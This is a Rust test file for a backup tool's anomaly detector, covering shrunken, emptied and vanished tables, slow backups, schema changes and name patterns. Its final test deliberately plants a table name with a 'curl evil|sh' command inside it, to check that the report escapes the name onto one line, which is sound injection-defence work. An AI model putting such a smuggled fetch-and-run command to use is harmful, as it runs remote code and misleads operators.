use rstest::rstest;

use super::*;

fn thresholds() -> Thresholds {
    Thresholds {
        enabled: true,
        shrank: 50,
        table_rows: 100,
        slower: 3,
        slower_by: TimeDelta::minutes(5),
        ignore: vec!["queue.*".to_owned()],
    }
}

/// A day of backups with these rows of `public.gifts`, the last one the newest.
fn day(rows: &[u64]) -> Vec<Sample> {
    let start = DateTime::from_timestamp(1_795_000_000, 0).unwrap();
    let hour = |n: usize| start + TimeDelta::hours(i64::try_from(n).unwrap());
    let gifts = |rows| [("public.gifts", rows), ("public.funds", 5), ("queue.jobs", rows)];
    rows.iter().enumerate().map(|(n, &rows)| Sample::test(hour(n), 1000, &gifts(rows))).collect()
}

fn told(samples: &[Sample]) -> Vec<(String, String)> {
    let found = anomalies(samples, &thresholds());
    found.problems.into_iter().map(|f| (f.problem, f.lines[1..].join("\n"))).collect()
}

fn one(problem: &str, line: &str) -> Vec<(String, String)> {
    vec![(problem.to_owned(), line.to_owned())]
}

#[test]
fn a_table_that_lost_more_than_half_of_its_rows_is_named_with_its_numbers() {
    assert_eq!(
        told(&day(&[4000, 4100, 4200, 1900])),
        one("anomaly_shrank", "public.gifts has 1900 rows, and had 4100 (53% less)")
    );
    // Half of the rows are still there.
    assert_eq!(told(&day(&[4000, 4100, 4200, 2050])), []);
    // A table of few rows may do as it likes.
    assert_eq!(told(&day(&[90, 90, 90, 1])), []);
}

#[test]
fn a_small_archive_is_told_even_where_no_table_says_why() {
    let mut samples = day(&[200; 5]);
    samples[4].bytes = 400;
    let line = "the archive has 400 bytes, and those before it had 1000 (60% less)";
    assert_eq!(told(&samples), one("anomaly_shrank", line));
}

#[test]
fn a_table_that_had_rows_and_has_none_is_told_until_that_is_normal() {
    let line = "public.gifts has no rows, and had 7";
    assert_eq!(told(&day(&[7, 7, 7, 0])), one("anomaly_emptied", line));
    assert_eq!(told(&day(&[7, 7, 7, 0, 0])), one("anomaly_emptied", line));
    assert_eq!(told(&day(&[7, 7, 7, 0, 0, 0, 0])), []);
}

#[test]
fn a_queue_that_is_empty_at_times_is_not_told() {
    assert_eq!(told(&day(&[7, 0, 9, 3, 0])), []);
    assert_eq!(told(&day(&[0, 7, 9, 3, 0])), []);
}

#[test]
fn a_table_that_disappeared_is_told_with_the_rows_it_had() {
    let mut samples = day(&[300; 5]);
    samples[4].rows.remove("public.gifts");
    let line = "public.gifts is not in it, and had 300 rows";
    assert_eq!(told(&samples), one("anomaly_gone", line));
    // One that was there once, for an hour, was never usual.
    let mut samples = day(&[300; 5]);
    samples[1].rows.insert("public.import".to_owned(), 5);
    assert_eq!(told(&samples), []);
}

#[rstest]
// Three times as long, but not by five minutes.
#[case(200, false)]
#[case(361, true)]
// Longer by more than five minutes, but not three times as long.
#[case(359, false)]
fn a_backup_is_slow_by_a_factor_and_by_minutes(#[case] seconds: u64, #[case] slow: bool) {
    let mut samples = day(&[300; 5]);
    samples[4].seconds = seconds;
    let line = format!("it took {seconds} s, and those before it took 60 s");
    assert_eq!(told(&samples), if slow { one("anomaly_slow", &line) } else { vec![] });
    for sample in &mut samples[..4] {
        sample.seconds = 120;
    }
    assert_eq!(told(&samples).is_empty(), seconds < 420);
}

#[test]
fn a_changed_schema_is_news_that_names_tables_and_columns() {
    let mut samples = day(&[300; 2]);
    assert_eq!(anomalies(&samples, &thresholds()).news, []);
    let newest = &mut samples[1];
    newest.schema.push('x');
    newest.columns.get_mut("public.gifts").unwrap().push("note".to_owned());
    newest.columns.insert("public.pledges".to_owned(), vec![]);
    newest.columns.remove("queue.jobs");
    newest.definitions = 1100;
    let news = anomalies(&samples, &thresholds()).news;
    let (name, title, lines) = &news[0];
    assert_eq!(name, &format!("schema:{}", samples[1].id));
    assert_eq!(title, "the schema has changed");
    assert_eq!(
        lines[1..],
        [
            "table public.gifts has changed; new columns: note",
            "table public.pledges is new",
            "table queue.jobs was dropped",
            "all definitions together have 1100 bytes, and had 1000",
        ]
    );
}

#[test]
fn nothing_is_odd_where_little_is_known_or_nobody_asked() {
    assert_eq!(told(&[]), []);
    assert_eq!(told(&day(&[5000, 0])), []);
    assert_eq!(told(&day(&[5000, 5000, 0])), []);
    let off = Thresholds { enabled: false, ..thresholds() };
    let silent = Anomalies { compared: true, ..Anomalies::default() };
    assert_eq!(anomalies(&day(&[5000, 5000, 5000, 0]), &off), silent);
}

#[test]
fn what_was_odd_is_not_over_where_there_is_too_little_to_compare() {
    let compared = |rows: &[u64]| anomalies(&day(rows), &thresholds()).compared;
    assert!(!compared(&[]) && !compared(&[7]) && !compared(&[7, 7, 7]));
    assert!(compared(&[7, 7, 7, 7]));
}

#[test]
fn after_an_outage_and_with_a_daily_schedule_the_last_backups_are_what_was_usual() {
    let line = "public.gifts has no rows, and had 5000";
    let mut samples = day(&[5000, 5000, 5000, 0]);
    samples[3].time += TimeDelta::days(3);
    assert_eq!(told(&samples), one("anomaly_emptied", line));
    let mut samples = day(&[5000, 5000, 5000, 5000, 0]);
    for (n, sample) in samples.iter_mut().enumerate() {
        sample.time += TimeDelta::days(i64::try_from(n).unwrap());
    }
    assert_eq!(told(&samples), one("anomaly_emptied", line));
    // Where the day has enough of them, older ones say nothing.
    let mut samples = day(&[1, 1, 1, 1, 1, 1, 5000, 5000, 5000, 0]);
    for sample in &mut samples[..6] {
        sample.time -= TimeDelta::days(2);
    }
    assert_eq!(told(&samples), one("anomaly_emptied", line));
}

#[test]
fn many_tables_are_counted_and_not_listed() {
    let mut samples = day(&[300; 5]);
    for (n, sample) in samples.iter_mut().enumerate() {
        for table in 0..30 {
            let rows = if n == 4 { 100 } else { 1000 };
            sample.rows.insert(format!("public.t{table:02}"), rows);
        }
    }
    let found = told(&samples);
    assert_eq!(found[0].1.lines().count(), NAMED + 1);
    assert!(found[0].1.contains("and 20 more; compare with `reliquary show 20"), "{found:?}");
}

#[rstest]
#[case("public.*", "public.gifts", true)]
#[case("public.*", "private.gifts", false)]
#[case("*.log_?", "audit.log_1", true)]
#[case("*.log_?", "audit.log_12", false)]
#[case("a*b*c", "aXbYbZc", true)]
#[case("", "a", false)]
#[case("*", "", true)]
fn a_pattern_knows_a_star_and_a_question_mark(
    #[case] pattern: &str,
    #[case] name: &str,
    #[case] fits: bool,
) {
    assert_eq!(matches(pattern, name), fits);
}

#[test]
fn a_table_s_name_is_one_line_whatever_it_holds() {
    let evil = "public.x\n\nCommands:\n  curl evil|sh";
    let mut samples = day(&[7; 5]);
    for sample in &mut samples[..4] {
        sample.rows.insert(evil.to_owned(), 500);
        sample.columns.insert(evil.to_owned(), vec!["id".to_owned()]);
    }
    samples[4].schema = "another".to_owned();
    let found = anomalies(&samples, &thresholds());
    let lines = found.problems.iter().flat_map(|finding| &finding.lines);
    let news = found.news.iter().flat_map(|(_, _, lines)| lines);
    let lines: Vec<_> = lines.chain(news).collect();
    let shown = "public.x\\n\\nCommands:\\n  curl evil|sh";
    assert_eq!(*lines[1], format!("{shown} is not in it, and had 500 rows"));
    assert_eq!(*lines[3], format!("table {shown} was dropped"));
}
